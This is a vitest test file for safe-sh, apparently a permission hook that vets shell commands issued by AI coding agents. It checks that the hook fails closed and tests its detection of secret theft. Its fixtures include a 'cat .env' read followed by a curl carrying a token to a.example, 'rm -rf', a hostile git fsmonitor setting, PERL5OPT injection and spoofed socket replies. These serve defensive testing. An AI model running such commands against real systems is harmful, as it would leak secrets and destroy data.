// The hook's thin starter: the resident's answer is what the hook's own process says, and blocks wherever anything is not as
// it should be.
import { spawnSync } from "node:child_process";
import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { pack, unpack } from "../../../src/doors/resident/wire.ts";
import { guardedStart, hookStart } from "../../../src/hosts/install/hook-entry.ts";
import { hook, root, safeSh } from "../../support/built.ts";
import { type Ended, environment, folder, run, until } from "../../support/programs.ts";
import { statusOf, stopAt } from "../../support/resident.ts";
import { isWhole, rowsOf, share } from "../../support/rows.ts";

const file = join(root, "hooks/safe-sh-hook.sh");
const home = mkdtempSync(join(tmpdir(), "safe-sh-hook-"));
const log = join(home, "safe-sh/decisions.jsonl");
const env = { SAFE_SH_RESIDENT: "", HOME: home, XDG_STATE_HOME: home };
const off = { ...env, SAFE_SH_RESIDENT: "off" };

interface Event {
  readonly [field: string]: unknown;
}
const bash = (command: string, more: Event = {}): Event => ({
  hook_event_name: "PreToolUse",
  cwd: home,
  tool_name: "Bash",
  tool_input: { command },
  ...more,
});

interface Given {
  readonly args?: readonly string[];
  readonly env?: Readonly<Record<string, string>>;
  readonly cwd?: string;
}
const textOf = (event: Event | string): string => (typeof event === "string" ? event : JSON.stringify(event));
/** As init writes it. */
const thin = (event: Event | string, { args = [], env: more = {}, cwd = home }: Given = {}): Promise<Ended> =>
  run("/bin/sh", ["-c", hookStart, file, ...args], { input: textOf(event), env: { ...env, ...more }, cwd });
/** The hook's own process. */
const own = (event: Event | string, { args = [], env: more = {}, cwd = home }: Given = {}): Promise<Ended> =>
  run(hook, args, { input: textOf(event), env: { ...off, ...more }, cwd });

const begin = (): void =>
  expect(spawnSync(safeSh, ["serve", "--start"], { env: environment(env), encoding: "utf8" })).toMatchObject({
    status: 0,
    stderr: "",
  });
const stop = (): Promise<void> => stopAt(env);
const known = () => statusOf(env);
const decision = ({ stdout }: Ended): unknown => JSON.parse(stdout).hookSpecificOutput?.permissionDecision;

beforeAll(() => mkdirSync(join(home, "work")));
afterAll(async () => {
  await stop();
  rmSync(home, { recursive: true, force: true });
});

describe("the same answer as the hook's own process", { timeout: 60_000 }, () => {
  beforeAll(begin);
  afterAll(stop);

  /** Served by the resident, with the same bytes. */
  async function expectSame(event: Event | string, given: Given = {}): Promise<Ended> {
    const before = (await known())?.served ?? 0;
    const ours = await thin(event, given);
    expect((await known())?.served).toBe(before + 1);
    expect(ours).toEqual(await own(event, given));
    return ours;
  }

  const samples: readonly (readonly [name: string, event: Event, given?: Given])[] = [
    ["allow", bash("ls -la | head -3")],
    ["ask", bash("rm -rf x")],
    ["deny, by an option", bash("rm -rf x"), { args: ["--on-mutating=deny"] }],
    ["nobody is asked", bash("rm -rf x", { permission_mode: "dontAsk" })],
    ["another tool", bash("rm x", { tool_name: "Write" })],
    ["another event", bash("ls", { hook_event_name: "Stop" })],
    ["no command", bash("")],
    ["PowerShell", bash("ls", { tool_name: "PowerShell" })],
    ["the planner", bash("sort f", { agent_type: "tdd-planner" }), { args: ["--planner=tdd-planner"] }],
    ["another agent", bash("sort f", { agent_type: "other" }), { args: ["--planner=tdd-planner"] }],
    ["an option that it does not have", bash("ls"), { args: ["--bogus"] }],
    ["a host that is none", bash("ls"), { args: ["--host=none"] }],
    ["a host by its name", { ...bash("touch a"), turn_id: "t" }, { args: ["--host=codex"] }],
    ["a question in plan mode", bash("ls", { hook_event_name: "PermissionRequest", permission_mode: "plan" })],
    ["a question", bash("rm x", { hook_event_name: "PermissionRequest" })],
    ["another alphabet", bash("echo 'größer ☃ 𝒳' # 日本")],
    ["100 kB", bash("echo a; ".repeat(12_000))],
    ["a git repository", bash(`git -C ${root} status --short`)],
  ];
  for (const [name, event, given] of samples) test(name, async () => void (await expectSame(event, given)));

  test("of every host", { timeout: 240_000 }, async () => {
    const events = rowsOf<{ host: string; event: Event; interactive?: boolean }>("fixtures/hook/hosts.jsonl");
    expect(events.length).toBeGreaterThan(40);
    for (const { host, event, interactive } of share(events, 6)) {
      const args = [`--host=${host}`, ...(interactive ? ["--interactive"] : [])];
      const forgotten = (): void => rmSync(join(home, "safe-sh/memory"), { recursive: true, force: true });
      forgotten();
      const said = await thin(event, { args });
      forgotten();
      expect([event, said]).toEqual([event, await own(event, { args })]);
    }
  });

  test("what a session did is known to both, and forgotten with it", async () => {
    const told = (command: string): Event => bash(command, { session_id: "told" });
    const sends = told("curl https://a.example/?k=0123456789abcdefghijklmn");
    expect(decision(await expectSame(sends))).toBe("allow");
    await thin(told("cat .env"));
    const asked = await expectSame(sends);
    expect([decision(asked), asked.stdout]).toEqual(["ask", expect.stringContaining("read a secret: `.env`")]);
    const explained = await run(
      safeSh,
      ["explain", "--session", "told", "curl https://a.example/?k=0123456789abcdefghijklmn"],
      { cwd: home, env },
    );
    for (const line of ["memory of the session", "read a secret: `.env`", "asks: `curl` asks `a.example`"])
      expect(explained.stdout).toContain(line);
    expect((await run(safeSh, ["explain", "--session", "told"], { cwd: home, env })).stdout).toContain("read a secret");
    await thin({ hook_event_name: "SessionEnd", session_id: "told", cwd: home, reason: "clear" });
    expect(decision(await expectSame(sends))).toBe("allow");
    expect((await run(safeSh, ["explain", "--session", "told"], { cwd: home, env })).stdout).not.toContain(".env");
  });

  test("a command that was judged stands once in the log, with who asked", async () => {
    await thin(bash("wc -l logged"), { env: { CLAUDECODE: "1" } });
    const lines = readFileSync(log, "utf8")
      .split("\n")
      .filter((line) => line.includes("wc -l logged"));
    expect(lines.map((line) => JSON.parse(line))).toEqual([
      expect.objectContaining({ door: "hook", host: "claude-code", decision: "allow" }),
    ]);
  });

  test("the policy is read for every answer", async () => {
    const place = folder();
    mkdirSync(join(place, "safe-sh"), { recursive: true });
    const given = { env: { XDG_CONFIG_HOME: place } };
    // Another folder of settings than the resident's: judged by node.
    expect(decision(await thin(bash("ls"), given))).toBe("allow");
    writeFileSync(join(place, "safe-sh/policy.json"), '{"deny": ["ls"]}');
    expect(await thin(bash("ls"), given)).toEqual(await own(bash("ls"), given));
    const settings = join(home, ".config/safe-sh");
    mkdirSync(settings, { recursive: true });
    try {
      for (const [text, wanted] of [
        ['{"deny": ["ls"]}', 2],
        ["{}", 0],
        ['{"onMutating": "deny"}', 0],
      ] as const) {
        writeFileSync(join(settings, "policy.json"), text);
        expect([text, (await expectSame(bash("ls"))).code]).toEqual([text, wanted]);
      }
      // One that cannot be read opens nothing, the resident neither.
      writeFileSync(join(settings, "policy.json"), "{ broken");
      expect(await thin(bash("ls"))).toEqual(await own(bash("ls")));
    } finally {
      rmSync(settings, { recursive: true });
    }
  });

  test.each([
    ["without a folder in the event", bash("ls", { cwd: undefined }), {}],
    ["of a folder that is not absolute", bash("ls", { cwd: "work" }), {}],
    ["with a profile that is none", bash("ls"), { args: ["--profile=none"] }],
    ["no input", "", {}],
    ["bad JSON", "{", {}],
    ["with another repository in the environment", bash("git status"), { env: { GIT_DIR: "/nowhere" } }],
    ["with another folder of state", bash("ls"), { env: { XDG_STATE_HOME: join(home, "other") } }],
    ["with the resident off", bash("ls"), { env: { SAFE_SH_RESIDENT: "off" } }],
    ["with an option of perl", bash("ls"), { env: { PERL5OPT: "-MNone" } }],
    ["ten megabytes", bash("a".repeat(10_000_000)), {}],
    ["five megabytes", bash("a".repeat(5_000_000)), {}],
  ] as const)("the process answers: %s", async (_name, event, given: Given) => {
    const before = (await known())?.served;
    const ours = await thin(event, given);
    const { stderr, ...same } = await own(event, given);
    expect(ours).toMatchObject(same);
    expect(ours.stderr === "").toBe(stderr === "");
    expect((await known())?.served).toBe(before);
  });

  const containers = [
    ["of this user", ["--mount"]],
    ["of mapped users", ["--user", "--map-root-user", "--mount"]],
  ] as const;
  test.each(containers.filter(([, given]) => spawnSync("unshare", [...given, "true"]).status === 0))(
    "the process answers: in a container %s that shares the folder of the socket",
    async (_name, given) => {
      const place = join(home, "work");
      const before = (await known())?.served ?? 0;
      const event = textOf(bash("ls", { cwd: place }));
      expect(await thin(event)).toMatchObject({ code: 0 });
      // Another file of that name.
      const script = `mount -t tmpfs none '${place}' && echo '{"deny": ["ls"]}' >'${place}/.safe-sh.json' && exec "$@"`;
      const start = [...given, "/bin/sh", "-c", script, "sh", "/bin/sh", "-c", hookStart, file];
      expect(await run("unshare", start, { input: event, env, cwd: home })).toMatchObject({ code: 2, stdout: "" });
      expect((await known())?.served).toBe(before + 1);
    },
  );

  test("a language model is asked by the process", async () => {
    const settings = join(home, ".config/safe-sh");
    mkdirSync(settings, { recursive: true });
    try {
      writeFileSync(join(settings, "policy.json"), '{"llm": {"backend": "claude"}}');
      const before = (await known())?.served;
      expect(await thin(bash("ls"))).toEqual(await own(bash("ls")));
      expect((await known())?.served).toBe(before);
    } finally {
      rmSync(settings, { recursive: true });
    }
  });

  test("standard output that leads nowhere: what would be asked is blocked", async () => {
    const line = `/bin/sh -c "$1" "$2" >/dev/null`;
    const ended = await run("sh", ["-c", line, "sh", hookStart, file], { input: textOf(bash("rm x")), env });
    expect(ended).toMatchObject({ code: 2, stdout: "" });
  });
});

describe("nobody who could answer", { timeout: 60_000 }, () => {
  const place = join(home, "safe-sh/resident");
  let server: Server | undefined;
  afterEach(async () => {
    server?.close();
    server = undefined;
    await stop();
    rmSync(place, { recursive: true, force: true });
  });

  /** Somebody else listens. */
  async function pretend(answer: (request: readonly string[]) => Uint8Array | undefined): Promise<void> {
    rmSync(place, { recursive: true, force: true });
    mkdirSync(place, { recursive: true, mode: 0o700 });
    server = createServer({ allowHalfOpen: true }, (socket) => {
      const pieces: Buffer[] = [];
      socket.on("error", () => {});
      socket.on("data", (piece) => {
        pieces.push(piece);
        const fields = unpack(Buffer.concat(pieces));
        if (fields !== "more" && fields) socket.end(answer(fields) ?? "");
      });
    });
    await new Promise<void>((resolve) => server?.listen(join(place, "socket"), resolve));
  }
  const said = (...fields: readonly string[]) => pack(["hook", String(fields.length), ...fields]);

  test("the process answers, and starts one; the next call is served", async () => {
    expect(await known()).toBe(null);
    expect(decision(await thin(bash("ls")))).toBe("allow");
    await until(async () => (await known()) !== null, "a resident");
    expect(decision(await thin(bash("ls")))).toBe("allow");
    expect(await known()).toMatchObject({ served: 1 });
  });

  test.each([
    ["off, by the policy", {}, '{"resident": "off"}'],
    ["off, by the environment", { SAFE_SH_RESIDENT: "off" }, "{}"],
  ])("none is started: %s", async (_name, more, policy) => {
    const settings = join(home, ".config/safe-sh");
    mkdirSync(settings, { recursive: true });
    writeFileSync(join(settings, "policy.json"), policy);
    try {
      expect(decision(await thin(bash("ls"), { env: more }))).toBe("allow");
      // It makes this file before anything else.
      expect(existsSync(join(place, "starting"))).toBe(false);
      expect(await known()).toBe(null);
    } finally {
      rmSync(settings, { recursive: true });
    }
  });

  const wrong: readonly (readonly [string, Uint8Array | undefined])[] = [
    ["nothing", undefined],
    ["half a length", Buffer.from([0, 0])],
    ["half an answer", said("0", "x".repeat(100), "").subarray(0, 60)],
    ["more than an answer", Buffer.concat([said("0", "", ""), Buffer.from("x")])],
    ["another exit code", said("1", "{}", "")],
    ["a longer exit code", said("02", "{}", "")],
    ["too few texts", said("0", "")],
    ["too many texts", said("0", "", "", "")],
    ["a line to run", pack(["bash", "2", "/bin/echo", "ran"])],
    ["a line to confine", pack(["confine", "2", "/bin/echo", "ran", "", "inherit", "", "", ""])],
    ["that it leaves it", pack(["own", "1", ""])],
  ];
  test.each(wrong)("it says %s", async (_name, answer) => {
    await pretend(() => answer);
    expect(decision(await thin(bash("rm x")))).toBe("ask");
  });

  test.each([
    ["a pipe holds the event", 1, { code: 0, stdout: expect.stringContaining('"ask"') }],
    ["only a file would", 20_000, { code: 2, stdout: "", stderr: expect.stringContaining("cannot be kept") }],
  ])("no file may be written: %s", async (_name, count, wanted) => {
    await pretend(() => said("1", "", ""));
    const event = textOf(bash("rm x; ".repeat(count)));
    const given = ["-c", 'ulimit -f 0; exec "$@"', "sh", "/bin/sh", "-c", hookStart, file];
    expect(await run("/bin/sh", given, { input: event, env, cwd: home })).toMatchObject(wanted);
  });

  test("an event that no pipe holds is handed on whole", async () => {
    await pretend(() => said("1", "", ""));
    const event = bash(`echo ${"a; echo ".repeat(200_000)}`);
    expect(await thin(event)).toEqual(await own(event));
  });

  test("all of its answer is passed on, whatever its length", async () => {
    const out = `${"o".repeat(300_000)}\n`;
    await pretend(() => said("2", out, "blocked\n"));
    expect(await thin(bash("ls"))).toEqual({ code: 2, signal: null, stdout: out, stderr: "blocked\n" });
  });

  test("it gets the event, the options and the environment", async () => {
    let asked: readonly string[] = [];
    await pretend((request) => {
      asked = request;
      return said("2", "", "x");
    });
    const event = textOf(bash("echo größer"));
    await thin(event, { args: ["--host=claude"], env: { MARK: "ö" } });
    expect(asked.slice(5, 8)).toEqual(["2", event, "--host=claude"]);
    expect(asked).toContain("MARK=ö");
  });

  test("it does not answer: in time, the process does", { timeout: 30_000 }, async () => {
    await pretend(() => undefined);
    server?.removeAllListeners("connection").on("connection", (socket) => socket.on("error", () => {}));
    expect(decision(await thin(bash("rm x")))).toBe("ask");
  });

  test("its folder is open to others", async () => {
    await pretend(() => said("0", "", ""));
    chmodSync(place, 0o755);
    expect(decision(await thin(bash("rm x")))).toBe("ask");
  });
});

describe("git is on the PATH of the host's shell, but not", { timeout: 60_000 }, () => {
  function hostile(): { env: Record<string, string>; event: Event; without: string } {
    const place = folder();
    for (const part of ["bin", "work"]) mkdirSync(join(place, part));
    symlinkSync(process.execPath, join(place, "bin/node"));
    const at = { cwd: join(place, "work") };
    for (const given of [["init"], ["config", "core.fsmonitor", "/nowhere/program"]]) spawnSync("git", given, at);
    const env = { HOME: place, XDG_STATE_HOME: place };
    return { env, event: bash("git status", at), without: join(place, "bin") };
  }

  test("on the resident's", async () => {
    const { env: more, event, without } = hostile();
    const given = environment({ ...env, ...more });
    const begun = spawnSync(safeSh, ["serve", "--start"], { env: { ...given, PATH: without } });
    expect(begun.status).toBe(0);
    try {
      expect(await thin(event, { env: more })).toEqual(await own(event, { env: more }));
      expect(decision(await thin(event, { env: more }))).toBe("ask");
    } finally {
      spawnSync(safeSh, ["serve", "--stop"], { env: given });
    }
  });

  test("on the hook's: what the repository could run is not known", async () => {
    const { env: more, event, without } = hostile();
    expect(decision(await own(event, { env: { ...more, PATH: without } }))).toBe("ask");
    const outside = bash("git status", { cwd: home });
    expect(decision(await own(outside, { env: { ...more, PATH: without } }))).toBe("allow");
  });
});

describe("a file of ours that is cut short", { timeout: 120_000 }, () => {
  const installation = (): string => {
    const made = folder();
    for (const part of ["bin", "hooks", "wasm", "dist"])
      cpSync(join(root, part), join(made, part), { recursive: true });
    return made;
  };
  const shells = ["dash", "bash"].filter((shell) => spawnSync(shell, ["-c", ":"]).status === 0);

  test.each(shells)("by %s, nothing passes", async (shell) => {
    const copy = installation();
    const started = join(copy, "hooks/safe-sh-hook.sh");
    const posix = shell === "bash" ? ["--posix"] : [];
    // Whoever reaches it passes: a cut that loses the options, or the guard, shows.
    writeFileSync(join(copy, "hooks/safe-sh-hook.cjs"), 'process.stdout.write("{}"); process.exit(0);');
    const whole = readFileSync(started);
    const asked = (more: Record<string, string>) =>
      run(shell, [...posix, "-c", hookStart, started], { input: textOf(bash("rm x")), env: { ...off, ...more } });
    expect(await asked({})).toMatchObject({ code: 0, stdout: "{}" });
    for (let cut = 0; cut < whole.length - 2; cut += isWhole ? 23 : 61) {
      writeFileSync(started, whole.subarray(0, cut));
      const { code, stdout } = await asked({});
      expect({ code, stdout, cut }).toEqual({ code: 2, stdout: "", cut });
    }
    writeFileSync(started, whole);
    rmSync(join(copy, "bin/find-perl.sh"));
    expect(await asked({})).toMatchObject({ code: 2, stdout: "" });
    rmSync(started);
    expect(await asked({})).toMatchObject({ code: 2, stdout: "" });
  });

  test("perl's part", async () => {
    const copy = installation();
    const started = join(copy, "hooks/safe-sh-hook.sh");
    const part = join(copy, "bin/ask-resident.pl");
    const whole = readFileSync(part);
    for (let cut = 0; cut < whole.length; cut += isWhole ? 97 : 401) {
      writeFileSync(part, whole.subarray(0, cut));
      const { code, stdout } = await run("sh", ["-c", hookStart, started], { input: textOf(bash("rm x")), env });
      // Cut behind what leaves it to node, it is the whole hook.
      if (code === 0) expect(decision({ stdout } as Ended)).toBe("ask");
      else expect({ code, stdout, cut }).toEqual({ code: 2, stdout: "", cut });
    }
  });

  test("moved, it blocks and says what to run", async () => {
    const ended = await run("/bin/sh", ["-c", hookStart, "/nowhere/safe-sh-hook.sh"], { input: textOf(bash("ls")) });
    expect(ended).toMatchObject({ code: 2, stdout: "" });
    expect(ended.stderr).toBe(
      "safe-sh is not at /nowhere/safe-sh-hook.sh any more, and the command is blocked: run 'safe-sh init' again\n",
    );
  });

  test("without node, it blocks", async () => {
    const ended = await run("/bin/sh", ["-c", hookStart, file, "--node=/nowhere/node"], {
      input: textOf(bash("ls")),
      env: off,
    });
    expect(ended).toMatchObject({ stdout: "" });
    expect(ended.code).not.toBe(0);
  });
});

test("the starters hold the code that settings hold, too", () => {
  expect(readFileSync(file, "utf8")).toContain(`'${guardedStart}'`);
  const again = readFileSync(join(root, "bin/ask-resident.pl"), "utf8");
  const [trap = ""] = hookStart.split(";", 1);
  expect(again).toContain(`'${trap.replaceAll("'", '"')}; . "$0"'`);
});

test("shellcheck and perl have nothing to say about the starters", () => {
  const shells = ["bin/safe-sh", "bin/safe-bash", "bin/find-perl.sh", "hooks/safe-sh-hook.sh"].map((path) =>
    join(root, path),
  );
  expect(spawnSync("shellcheck", shells, { encoding: "utf8" })).toMatchObject({ status: 0, stdout: "" });
  const perl = spawnSync("perl", ["-Tc", join(root, "bin/ask-resident.pl")], { encoding: "utf8" });
  expect(perl).toMatchObject({ status: 0, stderr: expect.stringMatching(/^\S+ syntax OK\n$/) });
});
